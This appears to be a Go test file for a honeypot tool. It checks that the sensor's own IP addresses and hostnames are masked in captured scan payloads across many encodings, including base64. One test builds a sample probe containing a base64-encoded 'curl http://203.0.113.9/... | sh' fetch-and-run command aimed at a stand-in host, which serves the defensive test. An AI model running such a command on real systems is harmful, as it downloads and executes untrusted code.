package payload

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/json"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"pgregory.net/rapid"

	"terroir/payload/render"
)

func self(s ...string) Self {
	var x Self
	for _, a := range s {
		x.Addrs = append(x.Addrs, netip.MustParseAddr(a))
	}
	return x
}

func TestTheSensorIsMaskedInEveryForm(t *testing.T) {
	me := self("192.0.2.17", "2001:db8::7")
	me.Hosts = []string{"trap.example"}
	for _, c := range []struct{ name, in, want string }{
		{"dotted", "Host: 192.0.2.17:6379\r\n", "Host: <HONEYPOT IP>:6379\r\n"},
		{"end of a sentence", "to 192.0.2.17.", "to <HONEYPOT IP>."},
		{"scanner's mark", "MGLNDD_192.0.2.17_6379\n", "MGLNDD_<HONEYPOT IP>_6379\n"},
		{"part of another", "192.0.2.170 1192.0.2.17 192.0.2.17.5 5.192.0.2.17", "192.0.2.170 1192.0.2.17 192.0.2.17.5 5.192.0.2.17"},
		{"percent dots", "x=192%2E0%2e2%2E17 192%2e0%2e2%2e17", "x=192%2E0%2e2%2E17 <HONEYPOT IP>"},
		{"percent all", "%31%39%32%2e%30%2e%32%2e%31%37", "<HONEYPOT IP>"},
		{"hex", "0xc0000211 C0000211 ac0000211", "0x<HONEYPOT IP> <HONEYPOT IP> ac0000211"},
		{"escaped", `\xc0\x00\x02\x11`, "<HONEYPOT IP>"},
		{"decimal", "http://3221226001/ 13221226001", "http://<HONEYPOT IP>/ 13221226001"},
		{"reversed", "17.2.0.192.in-addr.arpa", "<HONEYPOT IP>.in-addr.arpa"},
		{"cloud name", "ec2-192-0-2-17.compute.example", "ec2-<HONEYPOT IP>.compute.example"},
		{"IPv6", "[2001:db8::7]:80 2001:0db8:0000:0000:0000:0000:0000:0007 2001:DB8::7", "[<HONEYPOT IP>]:80 <HONEYPOT IP> <HONEYPOT IP>"},
		{"other IPv6", "2001:db8::77", "2001:db8::77"},
		{"host", "Host: trap.example\r\nx: mytrap.example", "Host: <HONEYPOT HOST>\r\nx: mytrap.example"},
		{"nothing", "PING\r\n", "PING\r\n"},
	} {
		if got := string(ReplaceSelf([]byte(c.in), me)); got != c.want {
			t.Errorf("%s: got %q, want %q", c.name, got, c.want)
		}
	}
}

func TestTheSensorIsMaskedInBase64(t *testing.T) {
	one, other := self("192.0.2.17"), self("198.51.100.200")
	probe := func(ip string) []byte {
		return []byte("GET /Basic/Command/Base64/" + base64.StdEncoding.EncodeToString([]byte("curl http://203.0.113.9/?from="+ip+" | sh")) + " HTTP/1.1\r\n")
	}
	a, b := ReplaceSelf(probe("192.0.2.17"), one), ReplaceSelf(probe("198.51.100.200"), other)
	if !bytes.Equal(a, b) || bytes.Equal(a, probe("192.0.2.17")) {
		t.Errorf("got %q and %q", a, b)
	}
	for between := range 4 { // several in one path, however far apart
		two := func(ip string) []byte {
			text := base64.RawStdEncoding.EncodeToString([]byte("curl " + ip + ":8080"))
			return []byte("GET /" + text + strings.Repeat("a", between) + "/" + text + " HTTP/1.1\r\n")
		}
		got, other := string(ReplaceSelf(two("192.0.2.17"), one)), string(ReplaceSelf(two("198.51.100.20"), self("198.51.100.20")))
		if got != other && between == 0 || strings.Contains(got, "MTkyLjAuMi4xN") {
			t.Errorf("got %q and %q", got, other)
		}
	}
}

func TestVolatileTokensGetSlots(t *testing.T) {
	for in, want := range map[string]string{
		"id=123e4567-e89b-12d3-a456-426614174000;":      "id=<UUID>;",
		"x-datadog-trace-id: 11173388400730376143\r\n":  "x-datadog-trace-id: <N>\r\n",
		"at 2022-06-14T12:00:00Z end":                   "at <TIME> end",
		"Date: Tue, 14 Jun 2022 12:00:00 GMT\r\n":       "Date: <TIME>\r\n",
		"token=deadbeefdeadbeef01 port=6379 v=20220614": "token=<HEX> port=6379 v=20220614",
		"set x 1\r\n": "set x 1\r\n",
	} {
		if got := string(Template([]byte(in), Self{})); got != want {
			t.Errorf("%q became %q, want %q", in, got, want)
		}
	}
}

// TestTemplatesOfTheIndependentWeek counts what an independent world says: 274 distinct payloads on 6379, 230 once the
// sensor's address is masked. The volatile tokens of a few tools make them fewer.
func TestTemplatesOfTheIndependentWeek(t *testing.T) {
	raw, masked, templates := map[string]bool{}, map[string]bool{}, map[string]bool{}
	f, err := os.Open(filepath.Join(data, "synth", "events.jsonl.gz"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	z, err := gzip.NewReader(f)
	if err != nil {
		t.Fatal(err)
	}
	lines := bufio.NewScanner(z)
	lines.Buffer(nil, 1<<24)
	for lines.Scan() {
		var e struct {
			Kind    string
			Proto   string
			DstIP   string `json:"dst_ip"`
			DstPort int    `json:"dst_port"`
			Payload []byte `json:"payload_b64"`
			Version int    `json:"ip_version"`
		}
		if err := json.Unmarshal(lines.Bytes(), &e); err != nil {
			t.Fatal(err)
		}
		if e.Kind != "payload" || e.DstPort != 6379 || e.Version != 4 {
			continue
		}
		raw[string(e.Payload)] = true
		masked[string(ReplaceSelf(e.Payload, self(e.DstIP)))] = true
		templates[string(Template(e.Payload, self(e.DstIP)))] = true
	}
	if len(raw) != 274 || len(masked) != 230 {
		t.Errorf("%d distinct payloads, %d with the sensor masked, want 274 and 230", len(raw), len(masked))
	}
	if len(templates) > 230 || len(templates) < 38 {
		t.Errorf("%d templates, want at most 230 and no fewer than the 38 families", len(templates))
	}
	t.Logf("%d templates", len(templates))
}

func TestMaskingIsStable(t *testing.T) {
	me := self("192.0.2.17")
	token := rapid.SampledFrom([]string{"192.0.2.17", "c0000211", "3221226001", "192-0-2-17", " ", "1", "a", ".", "%2e", "\r\n", "deadbeef", "\xff"})
	rapid.Check(t, func(t *rapid.T) {
		in := []byte(strings.Join(rapid.SliceOf(token).Draw(t, "tokens"), ""))
		once := ReplaceSelf(in, me)
		if twice := ReplaceSelf(once, me); !bytes.Equal(twice, once) {
			t.Fatalf("%q became %q and then %q", in, once, twice)
		}
		if len(once) > 4*len(in)+64 {
			t.Fatalf("%d bytes became %d", len(in), len(once))
		}
		without := ReplaceSelf(in, self("203.0.113.250"))
		if !bytes.Equal(without, in) {
			t.Fatalf("%q, which does not name the sensor, became %q", in, without)
		}
	})
}

func TestUserAgent(t *testing.T) {
	for in, want := range map[string]string{
		"GET / HTTP/1.1\r\nHost: x\r\nuser-agent:  zgrab/0.x \r\n\r\n": "zgrab/0.x", "GET / HTTP/1.1\r\n\r\nUser-Agent: body": "",
		"GET / HTTP/1.1\r\nUser-Agent: a\x1bb\r\n\r\n": "a?b", "PING\r\n": "",
	} {
		if got := UserAgent([]byte(in)); got != want {
			t.Errorf("%q: %q, want %q", in, got, want)
		}
	}
}

// FuzzTemplate: whatever is masked stays masked and small, the payload itself is not changed, and what is shown is safe.
func FuzzTemplate(f *testing.F) {
	f.Add([]byte("Host: 192.0.2.17\r\n"))
	f.Add([]byte("bWUgMTkyLjAuMi4xNw=="))
	for _, b := range realSeeds(f) {
		f.Add(b)
		f.Add(bytes.ReplaceAll(b, []byte("142.93.53.4"), []byte("192.0.2.17"))) // the sensor of the Docker requests
	}
	me := self("192.0.2.17", "2001:db8::7")
	me.Hosts = []string{"trap.example"}
	f.Fuzz(func(t *testing.T, b []byte) {
		before := bytes.Clone(b)
		masked := ReplaceSelf(b, me)
		plain := replaceForms(b, me.forms())
		// What is masked within base64 is put together anew, and may then be read in another way.
		if again := ReplaceSelf(masked, me); bytes.Equal(plain, masked) && !bytes.Equal(again, masked) || !bytes.Equal(replaceForms(plain, me.forms()), plain) {
			t.Errorf("%q is masked as %q, and that as %q", b, masked, again)
		}
		template := Template(b, me)
		if n := 4*len(b) + 64; len(masked) > n || len(template) > n+1024 { // a hello has its own text
			t.Errorf("%d bytes became %d, the template %d", len(b), len(masked), len(template))
		}
		if bytes.Equal(plain, masked) && !bytes.Equal(Template(masked, me), template) {
			t.Errorf("the template of %q is not that of what is masked", b)
		}
		if shown := render.Bytes(b, 80); utf8.RuneCountInString(shown) > 81 || strings.ContainsFunc(shown, func(r rune) bool { return !unicode.IsPrint(r) }) {
			t.Errorf("%q", shown)
		}
		if !bytes.Equal(b, before) {
			t.Error("the payload was changed")
		}
	})
}

func BenchmarkReplaceSelf(b *testing.B) {
	p := []byte("GET /?id=1 HTTP/1.1\r\nHost: 203.0.113.5:8888\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36\r\nAccept: */*\r\n\r\n")
	me := self("192.0.2.17")
	b.ReportAllocs()
	for b.Loop() {
		ReplaceSelf(p, me)
	}
}
